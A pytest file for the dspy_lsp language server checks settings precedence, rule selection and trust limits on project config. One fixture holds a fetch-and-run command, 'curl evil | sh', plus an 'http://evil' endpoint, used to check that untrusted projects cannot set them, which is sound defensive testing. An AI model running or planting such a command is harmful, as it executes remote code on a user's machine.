"""Which settings win, and how a broken layer is reported without losing the others."""

from __future__ import annotations

from pathlib import Path

import pytest

from dspy_lsp.analyzers.rules import ALL_RULES
from dspy_lsp.analyzers.selection import PathOverride, RuleSelection
from dspy_lsp.server.settings import ProjectConfig, editor_section, find_project_config, resolve

CODES = ("DL101", "DL104", "DL110", "DL201")


def test_editor_wins_over_pyproject_which_wins_over_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DSPY_LSP_DEBOUNCE_MS", "70")
    monkeypatch.setenv("DSPY_LSP_IGNORE", '["DL110"]')
    project = ProjectConfig(root=None, values={"debounce_ms": 90, "select": ["DL1"]})
    resolved = resolve({"debounce_ms": 10}, project)
    assert resolved.errors == ()
    assert resolved.settings.debounce_ms == 10
    assert resolved.settings.select == ("DL1",)
    assert resolved.settings.ignore == ("DL110",)


def test_each_broken_layer_is_named_and_skipped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DSPY_LSP_DEBOUNCE_MS", "soon")
    project = ProjectConfig(root=Path("/proj"), values={"selct": ["DL1"]})
    resolved = resolve({"ignore": 3}, project)
    assert resolved.settings.select == ("DL",) and resolved.settings.debounce_ms == 150
    environment, pyproject, editor = resolved.errors
    assert "DSPY_LSP_" in environment and "debounce_ms" in environment
    assert "/proj/pyproject.toml" in pyproject and "selct" in pyproject
    assert editor.startswith("editor settings") and "ignore" in editor


def test_toml_keys_may_use_dashes(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        "[tool.dspy-lsp]\ndebounce-ms = 5\nmax-file-chars = 9\n"
    )
    (tmp_path / "pkg").mkdir()
    config = find_project_config(tmp_path / "pkg")
    assert config.root == tmp_path
    settings = resolve({}, config).settings
    assert (settings.debounce_ms, settings.max_file_chars) == (5, 9)


def test_pyproject_without_our_table_is_passed_over(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[tool.dspy-lsp]\nignore = ["DL101"]\n')
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    assert find_project_config(tmp_path / "sub").root == tmp_path


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({"dspy-lsp": {"debounce-ms": 1}}, {"debounce_ms": 1}),
        ({"settings": {"ignore": ["DL1"]}}, {"ignore": ["DL1"]}),
        ({"select": ["DL1"]}, {"select": ["DL1"]}),
        (None, {}),
        ({"pylsp": {"plugins": {}}}, {}),
        ([1, 2], {}),
    ],
)
def test_editor_settings_shapes(options: object, expected: dict) -> None:
    assert editor_section(options) == expected


def test_longest_prefix_wins_between_select_and_ignore() -> None:
    selection = RuleSelection(select=("DL1", "DL104"), ignore=("DL10",))
    assert selection.codes_for(CODES) == ("DL104",)  # DL110 is pedantic: no prefix chooses it


ALL = tuple(ALL_RULES)
PEDANTIC = tuple(code for code, rule in ALL_RULES.items() if rule.PEDANTIC)


def test_pedantic_rules_run_only_when_named_by_group_code_category_or_all() -> None:
    assert {"DL110", "DL111", "DL112", "DL113", "DL114", "DL115", "DL117"} <= set(PEDANTIC)
    default = RuleSelection().codes_for(ALL)
    assert not set(default) & set(PEDANTIC)
    assert {"DL101", "DL102", "DL105", "DL109", "DL116", "DL118", "DL119"} <= set(default)
    assert RuleSelection(select=("DL", "pedantic")).codes_for(ALL) == ALL
    assert RuleSelection(select=("ALL",)).codes_for(ALL) == ALL
    assert set(RuleSelection(select=("DL", "DL115")).codes_for(ALL)) == {*default, "DL115"}
    performance = RuleSelection(select=("performance",)).codes_for(ALL)
    assert "DL113" in performance and "DL101" not in performance


def test_a_code_beats_a_group_and_a_group_beats_all() -> None:
    selection = RuleSelection(select=("pedantic",), ignore=("DL115",))
    assert "DL115" not in selection.codes_for(ALL) and "DL110" in selection.codes_for(ALL)
    selection = RuleSelection(select=("ALL", "DL115"), ignore=("pedantic",))
    assert "DL115" in selection.codes_for(ALL) and "DL110" not in selection.codes_for(ALL)


def test_overrides_apply_only_to_matching_paths() -> None:
    selection = RuleSelection(overrides=(PathOverride(path="tests/*", ignore=("DL104",)),))
    assert "DL104" not in selection.codes_for(CODES, "tests/unit/test_a.py")
    assert "DL104" in selection.codes_for(CODES, "src/a.py")
    assert "DL104" in selection.codes_for(CODES, None)


def test_an_untrusted_project_sets_only_project_safe_keys() -> None:
    values = {
        "select": ["DL1"],
        "lm": {"model": "m", "api_base": "http://evil", "run_on": ["save"]},
        "feedback": {"path": "/x", "ignore_after_saves": 1},
        "learn": {"auto": True},
    }
    resolved = resolve({}, ProjectConfig(root=Path("/proj"), values=values))
    settings = resolved.settings
    assert settings.select == ("DL1",) and settings.lm.run_on == ("save",)
    assert settings.feedback.ignore_after_saves == 1
    assert (settings.lm.model, settings.lm.api_base, settings.feedback.path) == (None,) * 3
    assert settings.learn.auto is False
    assert resolved.ignored == ("lm.model", "lm.api_base", "feedback.path", "learn.auto")
    assert resolved.trust_notice and "dspy-lsp trust /proj" in resolved.trust_notice
    trusted = resolve({}, ProjectConfig(root=Path("/proj"), values=values), trust_project=True)
    assert trusted.settings.lm.api_base == "http://evil" and trusted.ignored == ()


def test_the_lm_connection_is_taken_whole_from_one_layer() -> None:
    project = ProjectConfig(
        root=Path("/p"), values={"lm": {"api_base": "http://p", "timeout_s": 3}}
    )
    editor = {"lm": {"model": "m", "api_key_env": "KEY"}}
    resolved = resolve(editor, project, trust_project=True)
    lm = resolved.settings.lm
    assert (lm.model, lm.api_base, lm.api_key_env, lm.timeout_s) == ("m", None, "KEY", 3)
    assert resolved.sources["lm.model"] == "editor settings"
    assert "lm.api_base" not in resolved.sources
    assert resolved.sources["lm.timeout_s"].endswith("pyproject.toml [tool.dspy-lsp]")


def test_the_user_config_is_trusted_and_below_the_project(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    (tmp_path / "dspy-lsp").mkdir()
    (tmp_path / "dspy-lsp" / "config.toml").write_text(
        'debounce-ms = 7\n[lm]\nmodel = "openai/m"\napi-base = "http://mine"\n'
        '[feedback]\npath = "/mine"\n'
    )
    project = ProjectConfig(root=tmp_path / "p", values={"debounce_ms": 9})
    resolved = resolve({}, project)
    assert resolved.settings.lm.api_base == "http://mine"
    assert resolved.settings.feedback.path == "/mine"
    assert resolved.settings.debounce_ms == 9 and resolved.errors == ()
    assert resolved.sources["lm.model"].startswith("user config ")


def test_the_sessions_own_keys_are_not_settings() -> None:
    assert editor_section({"trustProject": True, "select": ["DL1"]}) == {"select": ["DL1"]}
    assert editor_section({"restrictedMode": True, "token": "t"}) == {}


def test_the_cache_fingerprint_names_the_endpoint() -> None:
    from dspy_lsp.server.settings import LmSettings

    a = LmSettings(model="m", api_base="http://a")
    assert a.fingerprint() != LmSettings(model="m", api_base="http://b").fingerprint()


def test_the_test_process_is_the_users_choice_and_restricted_mode_runs_no_tests() -> None:
    """``tests.command`` starts a process: a cloned project cannot choose it (nor the
    interpreter); an untrusted window runs no tests at all, whoever enabled them."""
    values = {"tests": {"command": "curl evil | sh", "python": "/tmp/evil", "timeout_s": 1}}
    resolved = resolve({}, ProjectConfig(root=Path("/proj"), values=values))
    tests = resolved.settings.tests
    assert (tests.command, tests.python, tests.timeout_s) == (None, None, 300.0)
    assert set(resolved.ignored) == {"tests.command", "tests.python", "tests.timeout_s"}
    mine = resolve({"tests": {"command": "make test"}}, ProjectConfig(root=None, values={}))
    assert mine.settings.tests.command == "make test" and mine.settings.tests.enabled
    restricted = resolve({"tests": {"enabled": True}}, ProjectConfig(None, {}), restricted=True)
    assert restricted.settings.tests.enabled is False
